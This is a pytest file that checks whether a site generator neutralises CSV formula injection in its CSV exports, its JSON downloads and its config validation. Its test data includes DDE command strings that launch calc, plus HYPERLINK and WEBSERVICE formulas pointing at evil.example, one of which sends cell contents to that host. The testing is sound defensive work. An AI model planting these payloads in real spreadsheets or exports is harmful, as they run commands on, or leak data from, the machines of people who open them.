"""The CSV files a site publishes, as a spreadsheet opens them (OWASP "CSV Injection"): a cell that
Excel or LibreOffice would evaluate (=, +, -, @, a leading tab or line break) reaches the reader with
a leading `'`, a plain number stays a number, a cell holding CR or LF stays one cell, and the JSON
download keeps the values as written. Formulas in config.yaml's `work_reports` are refused where
they are written. One build of a small site with a 数据发布 column (a `data:` file and `rows:`)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from tests.conftest import NOW, gsgen_here
from tests.sites import column, edited, minimal_site, replace, write_site

# (cell as written, whether a spreadsheet would evaluate it): the cases of issue 28 and their kin
CELLS = [
    ('=HYPERLINK("http://evil.example/","点击查看")', True),
    ("=cmd|' /C calc'!A0", True),
    ("+cmd|' /C calc'!A0", True),
    ("-2+3+cmd|' /C calc'!A0", True),
    ("@SUM(1+1)*cmd|' /C calc'!A0", True),
    ("\t=1+1", True),
    ('=WEBSERVICE("http://evil.example/?d="&A1)', True),
    ("=1+1", True),
    ("  =1+1", True),  # after spaces: LibreOffice trims them when asked to
    ("\u3000=1+1", True),  # after a full-width space
    ("\n=1+1", True),
    ("-1+1", True),
    ("--5", True),
    ("+86-23-12345678", True),  # Excel computes 86-23-12345678
    ("-", False),  # how a table says 无: text to every spreadsheet
    ("@", True),
    ("-3.2", False),
    ("+5", False),
    ("226.4", False),
    ("1,234", False),
    ("-12%", False),
    ("1e6", False),
    ("0", False),
    ("普通文字", False),
    ("a=1+1", False),
    ('DDE("cmd";"/C calc";"!A0")', False),
    ("", False),
]
# Only in `rows:` (YAML escapes): a data file's CR is read as a line break (sources.read_text).
CR_CELLS = [("\r=1+1", True), ("a\r=1+1", False), ("a\r\n=1+1", False)]

DATA_COLUMN = "content/sjfb/_column.yaml"
COLUMN_NAME = "=1+1数据发布"  # a column's name is a cell of `gsgen report --format csv`


def _file_table() -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["序号", '=HYPERLINK("http://evil.example/")', "数值"])  # the header too
    writer.writerows([str(n), written, "1.5"] for n, (written, _) in enumerate(CELLS, start=1))
    return out.getvalue()


def _yaml_string(text: str) -> str:
    return json.dumps(text, ensure_ascii=False)  # a JSON string is a YAML double-quoted string


def _rows_item() -> str:
    cells = CELLS + CR_CELLS
    rows = "\n".join(f"  - [{n}, {_yaml_string(written)}]" for n, (written, _) in enumerate(cells, start=1))
    return (
        "title: 公式测试（直接写出的数据）\ndate: 2025-01-06 10:00\nsource: 测试县统计局\n"
        f"rows:\n  - [序号, {_yaml_string('@SUM(A1:A9)')}]\n{rows}\n"
    )


def _seen(cells: list[tuple[str, bool]]) -> list[str]:
    """What a spreadsheet must get for each cell."""
    return [f"'{written}" if active else written for written, active in cells]


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("csv")
    files = {
        **minimal_site(),
        DATA_COLUMN: column(COLUMN_NAME, "数据发布"),
        "content/sjfb/file.yaml": (
            "title: 公式测试（数据文件）\ndate: 2025-01-06 10:00\nsource: 测试县统计局\ndata: table.csv\n"
        ),
        "content/sjfb/table.csv": _file_table(),
        "content/sjfb/rows.yaml": _rows_item(),
    }
    return write_site(root / "site", files)


@pytest.fixture(scope="module")
def built(site: Path) -> Path:
    out = site.parent / "out"
    run = gsgen_here("build", site, "--now", NOW, "-o", out)
    assert run.code == 0, run.text
    return out


def read_csv(path: Path) -> list[list[str]]:
    data = path.read_bytes()
    assert data.startswith("\ufeff".encode()), "the BOM Excel needs to read UTF-8"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_formulas_in_a_data_file_are_text_and_numbers_stay_numbers(built):
    rows = read_csv(built / "sjfb" / "file.csv")
    assert len(rows) == 1 + len(CELLS)
    assert rows[0] == ["序号", '\'=HYPERLINK("http://evil.example/")', "数值"]
    assert [r[1] for r in rows[1:]] == _seen(CELLS)
    assert [r[0] for r in rows[1:]] == [str(n) for n in range(1, len(CELLS) + 1)]
    assert {r[2] for r in rows[1:]} == {"1.5"}


def test_formulas_in_rows_are_text_and_a_cr_cannot_start_a_row(built):
    cells = CELLS + CR_CELLS
    text = (built / "sjfb" / "rows.csv").read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == 1 + len(cells)
    assert rows[0] == ["序号", "'@SUM(A1:A9)"]
    assert [r[1] for r in rows[1:]] == _seen(cells)
    # what a reader splitting lines on CR or LF outside quotes sees: no line starts with a formula
    lines = [line for line in _lines_outside_quotes(text) if line]
    assert all(not line.startswith(("=", "+", "-", "@", "\t")) for line in lines), lines
    # the test's own way to the same rule: no cell starts as a formula unless it is a number
    for row in rows:
        for value in row:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r", "\n")) or value in {"-3.2", "+5", "-12%", "-"}


def _lines_outside_quotes(text: str) -> list[str]:
    """The CSV text split at every CR or LF that is not inside a quoted cell."""
    lines, current, quoted = [], [], False
    for ch in text:
        if ch == '"':
            quoted = not quoted
        if ch in "\r\n" and not quoted:
            lines.append("".join(current))
            current = []
        else:
            current.append(ch)
    return [*lines, "".join(current)]


def test_the_json_download_keeps_the_values_as_written(built):
    payload = json.loads((built / "sjfb" / "rows.json").read_text("utf-8"))
    assert [list(r.values())[1] for r in payload["rows"]] == [written for written, _ in CELLS + CR_CELLS]
    assert list(payload["rows"][0]) == ["序号", "@SUM(A1:A9)"]


def test_the_work_report_csv_is_written_the_same_way(built):
    rows = read_csv(built / "ndbb" / "2024.csv")
    assert rows[0] == ["板块", "指标", "数值", "数据来源"] and len(rows) > 40
    values = {(r[0], r[1]): r[2] for r in rows}
    assert values[("网站基本信息", "政府网站标识码")] == "5001000099"


def test_gsgen_reports_csv_is_written_the_same_way(site):
    run = gsgen_here("report", site, "--year", "2025", "--format", "csv")
    rows = list(csv.reader(io.StringIO(run.out.removeprefix("\ufeff"), newline="")))
    assert run.code == 0 and rows[0] == ["指标", "栏目", "数值"]
    named = [r for r in rows if COLUMN_NAME in r[1]]
    assert named and all(r[1].startswith("'=1+1") for r in named), rows


# work_reports' text fields, each with a value a spreadsheet would evaluate
REFUSED = {
    "unit": '"=HYPERLINK(\\"http://evil.example/\\")"',
    "phone": "'+86-23-12345678'",
    "head": "'@SUM(1+1)'",
    "filler": '"\\t=1+1"',
    "reviewer": "'-2+3+cmd|'' /C calc''!A0'",
}


def test_a_formula_in_work_reports_is_refused_at_its_line(tmp_path):
    filing = "".join(f"      {field}: {value}\n" for field, value in REFUSED.items())
    config = "work_reports:\n  2024:\n    visits: 4567\n    innovation_other: '=1+1'\n    filing:\n" + filing
    files = edited(minimal_site(), {"config.yaml": replace("paginate: 3\n", "paginate: 3\n" + config)})
    out = tmp_path / "out"
    run = gsgen_here("build", write_site(tmp_path / "site", files), "--now", NOW, "-o", out)
    assert run.code == 1 and not out.exists(), run.text
    errors = [e for e in run.out.splitlines() if "error[FIELD]" in e and "公式" in e]
    lines = files["config.yaml"].split("\n")
    for field in REFUSED:
        line = lines.index(f"      {field}: {REFUSED[field]}") + 1
        assert any(e.startswith(f"config.yaml:{line}: ") and f"filing.{field}" in e for e in errors), (field, errors)
    assert len(errors) == len(REFUSED) + 1  # innovation_other too
